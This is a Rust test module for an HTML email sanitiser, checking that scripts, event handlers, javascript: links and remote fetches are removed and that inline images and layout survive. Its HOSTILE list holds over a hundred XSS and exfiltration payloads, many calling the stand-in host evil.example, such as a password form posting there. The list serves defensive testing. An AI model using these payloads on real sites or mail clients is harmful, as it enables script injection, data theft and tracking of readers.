use super::*;

/// A document with English words.
pub(super) fn sanitise(html: &str, images: &[InlineImage], remote: RemoteContent) -> Document {
    let place = Wording::PLACE;
    let (opens, writes) = (format!("opens {place}"), format!("writes to {place}"));
    super::sanitise(
        html,
        images,
        remote,
        &Wording { opens, writes, cut: "This message is very long; the rest is not shown.".into() },
    )
}

const PIXEL: &[u8] = &[0x89, b'P', b'N', b'G', 1, 2, 3];

fn image(content_id: &str, media_type: &str) -> InlineImage {
    InlineImage { content_id: content_id.into(), media_type: media_type.into(), bytes: PIXEL.to_vec() }
}

/// What stands between `<body…>` and `</body>`.
fn body(html: &str, remote: RemoteContent) -> (String, u32) {
    let document = sanitise(html, &[image("logo@x", "image/png"), image("bad@x", "text/html")], remote);
    let start = document.html.find("<body").unwrap();
    (document.html[start..].trim_end_matches("</body></html>").to_owned(), document.remote)
}

/// Hostile HTML in the spelling of many collections. None may leave any of [`FORBIDDEN`] in the content.
pub(super) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`x` onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert(1);\">",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=\" &#14; javascript:alert(1)\">",
    "<img lowsrc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\">",
    "<body onload=alert(1)>",
    "<body background=\"javascript:alert(1)\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><image href=\"http://evil.example/a.png\"/></svg>",
    "<svg><use href=\"http://evil.example/a.svg#x\"/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><maction actiontype=\"statusline#http://evil.example\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"\x01javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"blob:http://x/y\">x</a><a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"/api/x\">x</a><a href=\"?q\">x</a><a href=\"#f\">x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href=\"http://ok.example/\" ping=\"http://evil.example/\" download>x</a>",
    "<iframe src=\"http://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"http://evil.example/x.swf\"></object>",
    "<embed src=\"http://evil.example/x.swf\">",
    "<applet code=x></applet>",
    "<frameset><frame src=\"http://evil.example\"></frameset>",
    "<portal src=\"http://evil.example\"></portal>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.example\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
    "<base href=\"http://evil.example/\">",
    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<link rel=dns-prefetch href=\"//evil.example\"><link rel=preconnect href=\"//evil.example\">",
    "<form action=\"http://evil.example\"><input name=p type=password><button formaction=\"http://evil.example\">x</button></form>",
    "<input type=image src=\"http://evil.example/a.png\">",
    "<isindex action=\"javascript:alert(1)\">",
    "<video src=\"http://evil.example/a.mp4\" poster=\"http://evil.example/a.png\"></video>",
    "<audio src=\"http://evil.example/a.mp3\" autoplay></audio>",
    "<picture><source srcset=\"http://evil.example/a.png\"></picture>",
    "<img srcset=\"http://evil.example/a.png 1x, http://evil.example/b.png 2x\">",
    "<img src=\"http://evil.example/a.png\">",
    "<img src=\"//evil.example/a.png\">",
    "<img src=\"/\\evil.example/a.png\">",
    "<img src=\"\\\\evil.example/a.png\">",
    "<img src=\"https:evil.example/a.png\">",
    "<img src=\" \n http://evil.example/a.png\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"cid:bad@x\">",
    "<table background=\"http://evil.example/a.png\"><tr><td background=\"//evil.example/b.png\">x</td></tr></table>",
    "<div style=\"background:url(http://evil.example/a.png)\">x</div>",
    "<div style=\"background:url('http://evil.example/a.png')\">x</div>",
    "<div style=\"background:\\75rl(http://evil.example/a.png)\">x</div>",
    "<div style=\"background:u\\72 l( 'http://evil.example/a.png' )\">x</div>",
    "<div style=\"background:url(//evil.example/a.png)\">x</div>",
    "<div style=\"background:url(/**/http://evil.example/a.png)\">x</div>",
    "<div style=\"background:image-set('http://evil.example/a.png' 1x)\">x</div>",
    "<div style=\"background:-webkit-image-set(url(http://evil.example/a.png) 1x)\">x</div>",
    "<div style=\"--a:'http://evil.example/a.png';background:image-set(var(--a) 1x)\">x</div>",
    "<div style=\"background:src('http://evil.example/a.png')\">x</div>",
    "<div style=\"list-style:url(http://evil.example/a.png);cursor:url(http://evil.example/c.cur),auto\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"behavior:url(http://evil.example/x.htc)\">x</div>",
    "<div style=\"-moz-binding:url('http://evil.example/x.xml#x')\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"background:url(http://evil.example/a.png\">x</div>",
    "<div style=\"background:url('http://evil.example/a.png\n')\">x</div>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<style>@\\69mport 'http://evil.example/x.css';</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}</style>",
    "<style>@media screen{a{background:url(http://evil.example/a.png)}}</style>",
    "<style>@namespace 'http://evil.example/';</style>",
    "<style>input[value^=a]{background:url(http://evil.example/?a)}</style>",
    "<style>a{background:url(http://evil.example/a.png)",
    "<style></style><img src=x onerror=alert(1)>",
    "<style><!--</style><script>alert(1)</script>-->",
    "<style>a{content:'</style><img src=x onerror=alert(1)>'}</style>",
    "<style>a{content:'<\\/style><img src=x onerror=alert(1)>'}</style>",
    "<style media=\"x\" onload=\"alert(1)\">a{}</style>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<title><img title=\"</title><img src onerror=alert(1)>\"></title>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<xmp><img title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
    "<template><script>alert(1)</script></template>",
    "<select><option><style></option></select><img src onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<p title=\"<style>@import 'http://evil.example/';</style>\">x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onfocus=alert(1) tabindex=0 autofocus>x</x>",
    "<plaintext><script>alert(1)</script>",
    "<div id=x name=y contenteditable autofocus accesskey=x draggable=true>x</div>",
    "<div data-x=\"http://evil.example\" xmlns:x=\"http://evil.example\">x</div>",
    "<q cite=\"http://evil.example\">x</q>",
    "<html manifest=\"http://evil.example\"><head profile=\"http://evil.example\">",
    "<td background=\"http://evil.example\">",
    "<body style=\"background:url(http://evil.example/a.png)\" onload=alert(1)>x",
    "<body class='\"><script>alert(1)</script>'>x",
    "<body \"><script>alert(1)</script>x",
    "<html lang='\"><script>alert(1)</script>'>x",
];

/// What must not be in the content in any form that a browser obeys. Attribute and element forms only: the words may
/// well stand in a text.
fn offences(content: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (name, attributes) in tags(content) {
        let known = ELEMENTS.contains(&name.as_str()) || name == "body";
        if !known {
            found.push(format!("<{name}>"));
        }
        for (attribute, value) in attributes {
            if matches!(attribute.as_str(), "title" | "alt" | "aria-label") {
                continue;
            }
            let low = value.to_ascii_lowercase();
            if attribute.starts_with("on") || matches!(attribute.as_str(), "srcset" | "ping" | "poster" | "id" | "cite")
            {
                found.push(format!("{attribute}="));
            }
            if low.contains("javascript:")
                || low.contains("vbscript:")
                || low.contains("evil.example/") && !(attribute == "style" && low.contains("--a:"))
            {
                found.push(format!("{attribute}={value}"));
            }
            if attribute == "href" && !["http:", "https:", "mailto:"].iter().any(|scheme| low.starts_with(scheme)) {
                found.push(format!("href={value}"));
            }
            if attribute == "src" && !low.starts_with("data:image/") {
                found.push(format!("src={value}"));
            }
        }
    }
    let mut rest = content;
    while let Some(at) = rest.find("<style") {
        let end = rest[at..].find("</style").unwrap_or(rest.len() - at) + at;
        let css = rest[at..end].replace(['"', '\'', ' '], "");
        if ["(http:", "(//", "(https:", "@import", "font-face"].iter().any(|fetch| css.contains(fetch)) {
            found.push(rest[at..end].to_owned());
        }
        rest = &rest[end..];
    }
    found
}

/// The start tags of a document, as an HTML tokenizer sees them.
pub(super) fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    use html5ever::buffer_queue::BufferQueue;
    use html5ever::tokenizer::{
        Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts, states::RawKind,
    };

    #[derive(Default)]
    struct Collect(RefCell<Vec<Tag>>);
    impl TokenSink for Collect {
        type Handle = ();
        fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
            if let Token::TagToken(tag) = token
                && tag.kind == TagKind::StartTag
            {
                let style = &*tag.name == "style";
                self.0.borrow_mut().push(tag);
                if style {
                    return TokenSinkResult::RawData(RawKind::Rawtext);
                }
            }
            TokenSinkResult::Continue
        }
    }
    let queue = BufferQueue::default();
    queue.push_back(html.into());
    let tokenizer = Tokenizer::new(Collect::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    let tags = tokenizer.sink.0.into_inner();
    tags.into_iter()
        .map(|tag| {
            let attributes = tag.attrs.iter().map(|a| (a.name.local.to_string(), a.value.to_string())).collect();
            (tag.name.to_string(), attributes)
        })
        .collect()
}

#[test]
fn nothing_hostile_survives() {
    assert!(HOSTILE.len() > 100);
    for html in HOSTILE {
        let (content, _) = body(html, RemoteContent::Blocked);
        assert!(offences(&content).is_empty(), "{html}\n→ {content}\n{:?}", offences(&content));
    }
}

#[test]
fn nothing_hostile_survives_inside_other_elements_or_twice() {
    for html in HOSTILE {
        for around in [
            "<table><tr><td>…</td></tr></table>",
            "<p><b>…",
            "<svg>…</svg>",
            "<math><mi>…</mi></math>",
            "<div title='…'>",
        ] {
            let once = body(&around.replace('…', html), RemoteContent::Blocked).0;
            assert!(offences(&once).is_empty(), "{html} in {around}\n→ {once}\n{:?}", offences(&once));
            let twice = body(&once, RemoteContent::Blocked).0;
            assert!(offences(&twice).is_empty(), "{html} in {around}, twice\n→ {twice}");
        }
    }
}

#[test]
fn what_a_user_allows_is_pictures_alone() {
    for html in HOSTILE {
        let (content, _) = body(html, RemoteContent::Allowed);
        let bad: Vec<_> = offences(&content)
            .into_iter()
            .filter(|offence| {
                !["src=http", "background=http", "style=", "<style"].iter().any(|fine| offence.starts_with(fine))
                    || offence.contains("script:")
                    || offence.contains("@import")
                    || offence.contains("@font-face")
            })
            .collect();
        assert!(bad.is_empty(), "{html}\n→ {content}\n{bad:?}");
    }
    let html = sanitise("<img src='http://a.example/x.png'>", &[], RemoteContent::Allowed).html;
    assert!(html.contains("src=\"http://a.example/x.png\""), "{html}");
}

#[test]
fn remote_pictures_are_counted_and_left_out_until_they_are_allowed() {
    let html = "<body background='http://a.example/0.png'><img src='http://a.example/1.png' alt='One'>\
                <table><tr><td background='//a.example/2.png'></td></table><p style='background:url(https://a.example/3.png) red'>x</p>\
                <style>.a{background:url(http://a.example/4.png)}</style><img src='cid:logo@x'><img src='/5.png'>";
    let (content, remote) = body(html, RemoteContent::Blocked);
    assert_eq!(remote, 5, "{content}");
    assert!(!content.contains("a.example"), "{content}");
    assert!(content.contains("role=\"img\" aria-label=\"One\""), "{content}");
    assert_eq!(content.matches("<img").count(), 1, "{content}");
    assert_eq!(body(html, RemoteContent::Allowed).1, 5);
    // A browser skips control characters before an address, and takes a backslash for a slash.
    for address in
        ["\u{1}//a.example/x.png", "\u{1f} http://a.example/x.png", "/\\a.example/x.png", "\\\\a.example/x.png"]
    {
        let html = format!("<img src=\"{address}\">");
        assert_eq!(body(&html, RemoteContent::Blocked).1, 1, "{address:?}");
        assert!(body(&html, RemoteContent::Allowed).0.contains("://a.example/x.png\""), "{address:?}");
    }
}

#[test]
fn inline_images_become_data() {
    for cid in ["cid:logo@x", "CID:LOGO@x", "cid:logo%40x"] {
        let (content, remote) =
            body(&format!("<img src='{cid}'><p style='background:url({cid})'>"), RemoteContent::Blocked);
        assert_eq!(content.matches("data:image/png;base64,iVBORwECAw==").count(), 2, "{content}");
        assert_eq!(remote, 0);
    }
    assert!(!body("<img src='cid:unknown@x'>", RemoteContent::Blocked).0.contains("cid:"));
}

#[test]
fn a_newsletters_layout_survives() {
    let html = "<html lang=de><head><title>News</title><style type=\"text/css\">@media (max-width:600px){.c{width:100%!important}} a>b{color:red}</style></head>\
                <body bgcolor=\"#f4f4f4\" style=\"margin:0;background-color:#f4f4f4\" class=\"b\"><center>\
                <table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" align=\"center\" bgcolor=\"#ffffff\" class=\"c\">\
                <tr><td style=\"padding:20px;font-family:'Helvetica Neue',Arial\" valign=\"top\" colspan=2><font color=red face=arial>Hi</font>\
                <a href=\"https://a.example/?a=1&amp;b=2\" style=\"color:#fff\">Go</a> <a href=\"mailto:a@b.example\">m</a></td></tr></table></center></body></html>";
    let document = sanitise(html, &[], RemoteContent::Blocked);
    for kept in [
        "class=\"b\" lang=\"de\">",
        "@media (max-width:600px){.c{width:100%!important}} a>b{color:red}",
        "<body",
        "bgcolor=\"#f4f4f4\"",
        "background-color:#f4f4f4",
        "<center><table data-wide=\"\" width=\"600\"",
        "cellpadding=\"0\"",
        "font-family:'Helvetica Neue',Arial",
        "colspan=\"2\"",
        "<font color=\"red\" face=\"arial\">Hi</font>",
        "href=\"https://a.example/?a=1&amp;b=2\"",
        "target=\"_blank\"",
        "rel=\"noopener noreferrer\"",
        "href=\"mailto:a@b.example\"",
    ] {
        assert!(document.html.contains(kept), "{kept} is not in\n{}", document.html);
    }
    assert!(!document.html.contains("News"), "{}", document.html);
}

#[test]
fn a_document_names_no_address_of_its_own() {
    let html = sanitise("<p>x", &[], RemoteContent::Blocked).html;
    assert!(!html.contains("http:") && !html.contains("https:") && !html.contains("src="), "{html}");
    assert!(html.contains("name=\"referrer\" content=\"no-referrer\""));
}

#[test]
fn columns_keep_their_widths() {
    let html = "<table><col width=40><tr><th width=\"120\">A<td width=80>B</table>";
    let (content, _) = body(html, RemoteContent::Blocked);
    for kept in ["<col width=\"40\">", "width=\"120\">A", "<td width=\"80\">B"] {
        assert!(content.contains(kept), "{kept} is not in {content}");
    }
}

#[test]
fn text_stays_text() {
    let (content, _) = body("<p>1 &lt; 2 &amp; <b>url(http://evil.example)</b> @import</p>", RemoteContent::Blocked);
    assert!(content.ends_with("<p>1 &lt; 2 &amp; <b>url(http://evil.example)</b> @import</p>"), "{content}");
    let (rtl, _) = body("<body dir=rtl><p>سلام</p>", RemoteContent::Blocked);
    assert!(rtl.starts_with("<body dir=\"rtl\"") && rtl.contains("سلام"), "{rtl}");
}

#[test]
fn html_of_hostile_shape_takes_bounded_time() {
    let started = std::time::Instant::now();
    for (what, html) in [
        ("deep", "<div>".repeat(200_000)),
        ("formatting", "<b><a href=http://x.example>".repeat(20_000)),
        ("misnested", "<b><p></b>".repeat(20_000)),
        ("tables", "<table><tr><td>".repeat(20_000)),
        ("css blocks", format!("<style>{}", "a{(".repeat(100_000))),
        ("css functions", format!("<p style=\"{}\">", "calc(".repeat(100_000))),
        ("attributes", format!("<p {}>", (0..20_000).map(|n| format!("a{n}=1 ")).collect::<String>())),
        ("open comment", "<!--".repeat(300_000)),
        ("unclosed styles", "<style>".repeat(100_000)),
    ] {
        let document = sanitise(&html, &[], RemoteContent::Blocked);
        assert!(document.html.len() < 12 << 20, "{what}");
        assert!(started.elapsed().as_secs() < 60, "{what} took too long");
    }
}

#[test]
fn style_sheets_that_are_rewritten_bring_nothing_in_by_escapes_substitutions_or_depth() {
    let style = |css: &str| {
        let html = sanitise(&format!("<style>{css}</style><p>x"), &[], RemoteContent::Allowed).html;
        let start = html.rfind("<style>").unwrap();
        html[start..].to_owned()
    };
    // Written anew, an escaped end tag would be one.
    for end in ["\\3c/style>", "\\3C /STYLE>", "\\00003c/style\\3e "] {
        let rewritten = style(&format!("a{{background:url(\"data:image/png,{end}<img src=x onerror=alert(1)>\")}}"));
        assert!(!tags(&rewritten).iter().any(|(name, _)| name == "img"), "{rewritten}");
    }
    for name in ["var(--a)", "VAR(--a)", "env(a)", "attr(title)", "if(else:'http://evil.example/')"] {
        let rewritten = style(&format!("a{{background:image-set({name} 1x)}}"));
        assert!(rewritten.contains("image-set(none 1x)"), "{name}: {rewritten}");
        assert!(style(&format!("a{{color:{name}}}")).contains(name), "elsewhere it stays");
    }
    let inner = body(
        "<style>a{b:image-set(x(['http://evil.example/'],{'http://evil.example/'}) 1x)}</style>",
        RemoteContent::Blocked,
    )
    .0;
    assert!(!inner.contains("evil") && inner.contains("x([none],{none})"), "{inner}");
    let nested = |depth: usize| style(&format!("a{{b:{}x{}}}", "(".repeat(depth), ")".repeat(depth)));
    assert!(nested(30).contains('x') && nested(30).contains(&"(".repeat(30)));
    assert!(!nested(40).contains(&"(".repeat(36)), "what is nested deeper is dropped");
}

#[test]
fn a_base_a_citation_and_an_area_lead_nowhere_that_a_link_may_not() {
    let (content, _) = body(
        "<map name=m><area href='javascript:x'><area href='https://a.example/'></map><q cite='http://evil.example/'>x</q>",
        RemoteContent::Allowed,
    );
    assert_eq!(content.matches("href=").count(), 1, "{content}");
    assert!(!content.contains("cite=") && !content.contains("javascript"), "{content}");
    let deep = sanitise(&"<div>&lt;script>alert(1)&lt;/script>".repeat(2000), &[], RemoteContent::Blocked).html;
    assert!(deep.contains("<pre>") && !tags(&deep).iter().any(|(name, _)| name == "script"), "text is escaped");
    let (strange, _) = body("<body class='a\"b' \"x bgcolor=red <p>x", RemoteContent::Blocked);
    assert!(
        strange.starts_with("<body class=\"a&quot;b\" bgcolor=\"red\""),
        "what is sound of a body's attributes stays: {strange}"
    );
    let rtl =
        |html: &str| sanitise(html, &[], RemoteContent::Blocked).html.to_lowercase().contains("<body dir=\"rtl\">");
    assert!(rtl("<html dir=rtl>x") && rtl("<body dir=RTL>x") && !rtl("<p dir=rtl>x"));
}

/// Elements that are open at the same time, at most, in HTML that ammonia wrote: there, everything is closed.
fn depth_of(html: &str) -> usize {
    let (mut open, mut depth) = (0_usize, 0);
    for at in html.match_indices('<').map(|(at, _)| at + 1) {
        if html[at..].starts_with('/') {
            open -= 1;
        } else if !["br", "hr", "img", "wbr", "col", "area", "!", "meta"]
            .iter()
            .any(|void| html[at..].starts_with(void))
        {
            open += 1;
        }
        depth = depth.max(open);
    }
    depth
}

#[test]
fn no_shape_nests_deeper_than_the_survey_tells() {
    for piece in [
        "<div>",
        "<div/>",
        "<div></p>",
        "<div></td>",
        "<div></li>",
        "<div></span>",
        "<li><dd>",
        "<dt><li>",
        "<ul><li>",
        "<select><div></select><div></div>",
        "<b><p></b>",
        "<table><tr><td></tr>",
        "<p><table><td>",
        "<font/></font/><i/>",
        "<div><table></div>",
        "<blockquote><option><p>",
        "<address><dd><li></address>",
        "<h1></h2>",
        "<ruby><rt>",
    ] {
        let document = body(&piece.repeat(20_000), RemoteContent::Blocked).0;
        assert!(depth_of(&document) <= 6 * MAX_DEPTH, "{piece}: {}", depth_of(&document));
    }
    // Shapes that are put together by chance: the survey may tell of more than there is, not of much less.
    let mut random = Random(7);
    for _ in 0..300 {
        const NAMES: [&str; 24] = [
            "div", "p", "li", "dd", "dt", "td", "tr", "th", "table", "span", "b", "a", "select", "option", "template",
            "svg", "h1", "button", "object", "ul", "caption", "tbody", "math", "ruby",
        ];
        let mut piece = String::new();
        for _ in 0..=random.below(8) {
            let (end, slash) = (["", "", "/"][random.below(3)], ["", "", "/"][random.below(3)]);
            piece.push_str(&format!("<{end}{}{slash}>", NAMES[random.below(NAMES.len())]));
        }
        let html = piece.repeat(1 + 2000 / piece.len());
        let told = survey::survey(&html).depth;
        if told <= MAX_DEPTH {
            let found = depth_of(&body(&html, RemoteContent::Blocked).0);
            assert!(found <= 8 + 6 * told, "{piece}: {found} where {told} were told");
        }
    }
}

#[test]
fn a_picture_that_is_referred_to_by_the_thousand_does_not_grow_without_bound() {
    let picture = InlineImage { content_id: "big@x".into(), media_type: "image/png".into(), bytes: vec![7; 1 << 20] };
    let html = "<img src='cid:big@x' alt='big'><p style='background:url(cid:big@x)'>".repeat(3000);
    let document = sanitise(&html, &[picture], RemoteContent::Blocked);
    let shown = document.html.matches("data:image/png").count();
    assert!((10..30).contains(&shown) && document.html.len() < 34 << 20, "{shown} of {} octets", document.html.len());
    let (pictures, frames) =
        (document.html.matches("<img").count(), document.html.matches("aria-label=\"big\"").count());
    assert_eq!(pictures + frames, 3000, "each that is left out has a frame");
}

pub(super) struct Random(pub(super) u64);

impl Random {
    /// A number below `bound`.
    pub(super) fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(self.0 >> 33).unwrap() % bound
    }
}

#[test]
fn html_without_end_is_cut_and_says_so() {
    let document = sanitise(&"<p>é</p>".repeat(MAX_HTML_BYTES / 8), &[], RemoteContent::Blocked);
    assert!(document.html.contains("the rest is not shown"));
    assert!(!sanitise("<p>é</p>", &[], RemoteContent::Blocked).html.contains("the rest is not shown"));
}

#[test]
fn addresses_in_style_sheets_tell_nobody_where_they_stand_where_the_browser_knows_how_to_say_that() {
    let html = "<style>.a{background:url(http://a.example/1.png)} .b{background:image-set('http://a.example/2.png' 1x)}</style>\
        <p style='list-style:url(\"http://a.example/3.png\")'>x<p style='background:url(data:image/png;base64,AA)'>y";
    let modifier = " referrer-policy(no-referrer)";
    let with = sanitise(html, &[], RemoteContent::AllowedWithModifiers).html;
    assert_eq!((with.matches("http://a.example").count(), with.matches(modifier).count()), (3, 3), "{with}");
    assert_eq!(
        with.replace(modifier, ""),
        sanitise(html, &[], RemoteContent::Allowed).html,
        "and nothing else differs"
    );
}

#[test]
fn remote_pictures_are_those_of_properties_that_tell_no_origin() {
    let shown = |css: &str| sanitise(css, &[], RemoteContent::Allowed).html.contains("a.example");
    for declaration in [
        "background:url(http://a.example/x)",
        "BACKGROUND-image : red url('http://a.example/x')",
        "color:red;list-style/**/:url(http://a.example/x)",
        "content:image-set('http://a.example/x' 1x)",
        "b\\61 ckground:linear-gradient(red,blue),url(http://a.example/x)",
    ] {
        assert!(shown(&format!("<style>a:hover{{{declaration}}}</style><p>x")), "{declaration}");
        assert!(shown(&format!("<p style=\"{declaration}\">x")), "{declaration}");
    }
    for declaration in [
        "mask-image:url(http://a.example/x)",
        "-webkit-mask:url(http://a.example/x)",
        "shape-outside:url(http://a.example/x)",
        "clip-path:url(http://a.example/x)",
        "filter:url(http://a.example/x)",
        "--a:url(http://a.example/x)",
        "background:none;mask:url(http://a.example/x)",
        "background:none}b{mask:url(http://a.example/x)",
        "background mask:url(http://a.example/x)",
        "mask:if(content:url(http://a.example/x))",
        "mask:background:url(http://a.example/x)",
        "url(http://a.example/x)",
    ] {
        assert!(!shown(&format!("<style>a:hover{{{declaration}}}</style><p>x")), "{declaration}");
        assert!(!shown(&format!("<p style=\"{declaration}\">x")), "{declaration}");
    }
    assert!(!shown("<style>@property --a{syntax:'<image>';initial-value:url(http://a.example/x)}</style><p>x"));
}
